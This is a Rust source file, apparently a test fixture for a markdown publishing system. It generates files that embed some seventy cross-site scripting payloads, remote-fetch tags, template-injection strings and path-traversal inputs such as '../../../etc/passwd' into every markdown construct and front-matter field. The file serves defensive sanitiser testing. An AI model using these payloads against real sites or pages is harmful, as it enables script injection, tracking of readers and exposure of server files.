//! What somebody may send a writer to make her program, or her readers' browsers, run something or ask something of the web.

/// What runs where it runs: the page then knows `ran`.
const RUN: &str = "top.ran=ran=1";

/// One text that is to do harm, as a file.
pub struct Input {
    /// What the file is called.
    pub name: String,
    /// What is in it.
    pub markdown: String,
}

/// Programs, and things to be fetched from `WEB`, in HTML and as addresses. Those that close nothing come last, since they take what
/// follows into themselves.
const PAYLOADS: &[&str] = &[
    "<script>RUN</script>",
    "<ScRiPt src='WEB/a.js'></ScRiPt>",
    "<script/x>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<img src=x onerror=RUN>",
    "<img/src='x'/onerror='RUN'>",
    "<img src='WEB/a.png' srcset='WEB/b.png 2x'>",
    "<IMG SRC=\"jav&#x09;ascript:RUN\">",
    "<img src=x:x onerror\u{c}=RUN>",
    "<svg onload=RUN></svg>",
    "<svg><script>RUN</script></svg>",
    "<svg><a xlink:href='javascript:RUN'><text x='20' y='20'>x</text></a></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>RUN</script></svg>#x'></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
    "<math href='javascript:RUN'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></p></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN></style></mglyph></form>",
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<iframe src='WEB/frame'></iframe>",
    "<object data='javascript:RUN'></object>",
    "<object data='WEB/o'></object>",
    "<embed src='WEB/e'>",
    "<video poster='WEB/p' src='WEB/v' onloadstart=RUN></video>",
    "<audio src='WEB/s' autoplay onerror=RUN></audio>",
    "<picture><source srcset='WEB/t.webp'><img src='WEB/t.png'></picture>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN></select>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<body onload=RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "<a href='javascript:RUN'>press</a>",
    "<a href='JaVaScRiPt&colon;RUN'>press</a>",
    "<a href='&#106;avascript:RUN'>press</a>",
    "<a href='java\nscript:RUN'>press</a>",
    "<a href='data:text/html,<script>RUN</script>'>press</a>",
    "<a href='https://a.example' ping='WEB/ping' onclick='RUN'>press</a>",
    "<form action='javascript:RUN'><button>press</button></form>",
    "<button formaction='javascript:RUN' form=x>press</button>",
    "<div style='background:url(WEB/c)'>x</div>",
    "<style>@import 'WEB/i.css'; * { background: url(WEB/d) }</style>",
    "<link rel=stylesheet href='WEB/l.css'>",
    "<link rel=prefetch href='WEB/l'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=refresh content='0;url=WEB/m'>",
    "<base href='WEB/'>",
    "<template><script>RUN</script></template>",
    "javascript:RUN",
    "JAVASCRIPT&colon;RUN",
    "java\u{a0}script:RUN",
    "\u{1}javascript:RUN",
    "vbscript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "//a.example/<img src=x onerror=RUN>",
    "WEB/track.png",
    "file:///etc/passwd",
    "../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "'\"><img src=x onerror=RUN>",
    "</script><script>RUN</script>",
    "</title></textarea></style><svg onload=RUN></svg>",
    "--><img src=x onerror=RUN><!--",
    "]]><img src=x onerror=RUN>",
    "{{constructor.constructor('RUN')()}} {% include \"/etc/passwd\" %} <%= RUN %> ${RUN}",
    "\u{202e}<img src=x onerror=RUN>\u{2066}",
    "<x onclick=RUN>press</x>",
    "<plaintext><script>RUN</script>",
    "<textarea><img src=x onerror=RUN>",
    "<!--<img src=x onerror=RUN>",
    "<script>RUN",
];

/// Where in a piece it may stand, `X` for it; in those marked, on one line and without what would end an address.
const PLACES: &[(&str, &str)] = &[
    ("block", "X"),
    ("paragraph", "Words X words."),
    ("heading", "## X"),
    ("list", "- X\n  1. X"),
    ("quotation", "> X\n>\n> — X"),
    ("link-text", "[X](https://a.example)"),
    ("link-address", "[press](<X>)"),
    ("link-title", "[press](https://a.example \"X\")"),
    ("link-reference", "[press][X]\n\n[X]: <X>"),
    ("autolink", "<X> and X"),
    ("picture-address", "![alt](<X>)\nA caption"),
    ("picture-words", "![X](here.jpg \"X\")\nX"),
    ("picture-in-a-line", "Words ![X](<X>) words."),
    ("table", "| X |\n|---|\n| X |"),
    ("code", "```X\nX\n```"),
    ("code-in-a-line", "Words ``X`` words."),
    ("footnote", "Words[^X].\n\n[^X]: X"),
    ("poll", "> [!poll] X\n> - X\n>\n> X\n>\n> Vote: <X>"),
    ("aside", "> [!aside] X\n> X"),
    ("gallery", "> [!gallery] X\n> ![X](here.jpg)\n> X"),
    ("details", "<details>\n<summary>X</summary>\n\nX\n\n</details>"),
];

const FIELDS: &[&str] = &[
    "headline",
    "kicker",
    "standfirst",
    "slug",
    "slugline",
    "author_line",
    "dateline",
    "published",
    "section",
    "language",
    "summary",
    "disclaimer",
    "note_to_desk",
    "my_notes",
    "status",
    "X",
];

const CREDIT: &[&str] = &[
    "title",
    "agency",
    "via",
    "source_name",
    "source_address",
    "licence",
    "licence_address",
    "rights_holder",
    "copyright_notice",
    "usage_terms",
    "instructions",
    "mandatory_text",
    "permission_evidence",
    "crop",
    "focus",
    "X",
];

/// All of them as they are, asking `web` for what they ask for.
pub fn payloads(web: &str) -> Vec<String> {
    PAYLOADS.iter().map(|payload| payload.replace("RUN", RUN).replace("WEB", web)).collect()
}

/// All of them in every place of a piece: a file for each place, and a file for each of them in the fields.
pub fn inputs(web: &str) -> Vec<Input> {
    let payloads = payloads(web);
    let places = PLACES.iter().map(|(place, form)| {
        let blocks: Vec<String> = payloads.iter().map(|payload| form.replace('X', payload)).collect();
        Input {
            name: format!("{place}.md"),
            markdown: format!("---\nheadline: {place}\n---\n\n{}\n", blocks.join("\n\n")),
        }
    });
    let fields = payloads
        .iter()
        .enumerate()
        .map(|(at, payload)| Input { name: format!("fields-{at}.md"), markdown: in_fields(payload) });
    places.chain(fields).collect()
}

/// How many that is, each in each place counted.
pub fn number() -> usize {
    PAYLOADS.len() * (PLACES.len() + 1)
}

fn in_fields(payload: &str) -> String {
    let value = serde_json::Value::from(payload).to_string();
    let line =
        |indent: &str, key: &&str| format!("{indent}{}: {value}\n", if *key == "X" { &value } else { *key });
    let fields: String = FIELDS.iter().map(|key| line("", key)).collect();
    let credit: String = CREDIT.iter().map(|key| line("    ", key)).collect();
    format!(
        "---\n{fields}tags: [{value}]\nbylines:\n  - name: {value}\n    role: {value}\n    link: {value}\n\
         republication:\n  outlet: {value}\n  address: {value}\n  permission: {value}\n\
         corrections:\n  - text: {value}\n\
         pictures:\n  here.jpg:\n{credit}    creators: [{value}]\n  {value}:\n    title: {value}\n---\n\n![](here.jpg)\n\nWords.\n"
    )
}
